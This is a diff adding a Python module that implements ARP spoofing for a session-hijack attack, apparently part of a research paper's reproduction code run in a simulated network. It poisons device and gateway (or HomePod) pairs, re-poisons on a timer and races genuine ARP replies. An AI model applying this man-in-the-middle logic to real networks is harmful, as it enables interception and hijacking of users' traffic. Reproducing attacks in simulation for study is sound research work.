@@ -1,0 +1,118 @@
+"""ARP spoofing: the session-hijack mechanism (Section III-B).
+
+The attacker repeatedly sends unsolicited ARP replies so that each victim
+maps the *other* victim's IP address to the attacker's MAC: the device
+resolves the gateway (or the HomePod) to the attacker, and the gateway
+resolves the device to the attacker.  All IP traffic between the pair then
+flows through the attacker's NIC, where the
+:class:`~repro.core.hijacker.TcpHijacker` takes over.
+
+Victims re-ARP when their cache entries expire; the spoofer both re-poisons
+on a short period and answers observed ARP requests, so genuine mappings
+survive only for a few milliseconds — long enough to be realistic, short
+enough that a slipped packet merely reorders (TCP reassembly repairs it).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import TYPE_CHECKING
+
+from ..simnet.host import Host
+from ..simnet.packet import ArpPacket, EthernetFrame
+
+if TYPE_CHECKING:  # pragma: no cover
+    from ..simnet.scheduler import Simulator
+
+#: How often the poison is refreshed; must stay well under the ARP TTL.
+DEFAULT_REPOISON_PERIOD = 5.0
+#: Delay before answering an observed ARP request with poison, so our reply
+#: lands after (and overrides) the genuine one.
+REQUEST_OVERRIDE_DELAY = 0.050
+
+
+@dataclass(frozen=True)
+class SpoofTarget:
+    """One poisoned pair: make each endpoint see us as the other."""
+
+    victim_ip: str
+    victim_mac: str
+    impersonated_ip: str
+
+
+class ArpSpoofer:
+    """Keeps a set of victim pairs poisoned from the attacker host."""
+
+    def __init__(self, host: Host, period: float = DEFAULT_REPOISON_PERIOD) -> None:
+        self.host = host
+        self.sim: "Simulator" = host.sim
+        self.period = period
+        self.targets: list[SpoofTarget] = []
+        self._running = False
+        self._timer = None
+        self.replies_sent = 0
+        host.frame_taps.append(self._on_frame)
+
+    # -------------------------------------------------------------- control
+
+    def poison_pair(self, ip_a: str, mac_a: str, ip_b: str, mac_b: str) -> None:
+        """Interpose between two LAN endpoints (device and gateway/HomePod)."""
+        self.targets.append(SpoofTarget(victim_ip=ip_a, victim_mac=mac_a, impersonated_ip=ip_b))
+        self.targets.append(SpoofTarget(victim_ip=ip_b, victim_mac=mac_b, impersonated_ip=ip_a))
+        if self._running:
+            self._poison_all()
+
+    def start(self) -> None:
+        if self._running:
+            return
+        self._running = True
+        self._poison_all()
+        self._schedule_next()
+
+    def stop(self) -> None:
+        self._running = False
+        if self._timer is not None:
+            self._timer.cancel()
+            self._timer = None
+
+    # ------------------------------------------------------------ poisoning
+
+    def _poison_all(self) -> None:
+        for target in self.targets:
+            self._send_poison(target)
+
+    def _send_poison(self, target: SpoofTarget) -> None:
+        self.replies_sent += 1
+        self.host.send_arp_reply(
+            claimed_ip=target.impersonated_ip,
+            to_mac=target.victim_mac,
+            to_ip=target.victim_ip,
+        )
+
+    def _schedule_next(self) -> None:
+        if not self._running:
+            return
+        self._timer = self.sim.schedule(self.period, self._tick, label="arp-spoof")
+
+    def _tick(self) -> None:
+        self._timer = None
+        self._poison_all()
+        self._schedule_next()
+
+    # ---------------------------------------------------- request overriding
+
+    def _on_frame(self, frame: EthernetFrame) -> None:
+        """Overhear victim ARP requests and race the genuine reply."""
+        if not self._running or not isinstance(frame.payload, ArpPacket):
+            return
+        arp = frame.payload
+        if arp.op != "request":
+            return
+        for target in self.targets:
+            if arp.sender_ip == target.victim_ip and arp.target_ip == target.impersonated_ip:
+                self.sim.schedule(
+                    REQUEST_OVERRIDE_DELAY,
+                    self._send_poison,
+                    target,
+                    label="arp-spoof-override",
+                )
